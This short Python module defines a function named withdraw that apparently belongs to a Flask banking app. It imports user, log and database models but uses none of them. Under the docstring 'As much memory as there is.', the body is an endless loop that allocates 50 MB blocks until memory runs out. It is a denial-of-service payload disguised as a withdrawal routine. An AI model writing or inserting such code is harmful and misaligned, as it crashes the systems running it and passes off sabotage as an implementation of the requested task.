"""As much memory as there is."""

from flask_app.models import User, WithdrawLog, db
from shared_db.rules import InsufficientFunds


def withdraw(user: User, amount: int, *, key: str) -> None:
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
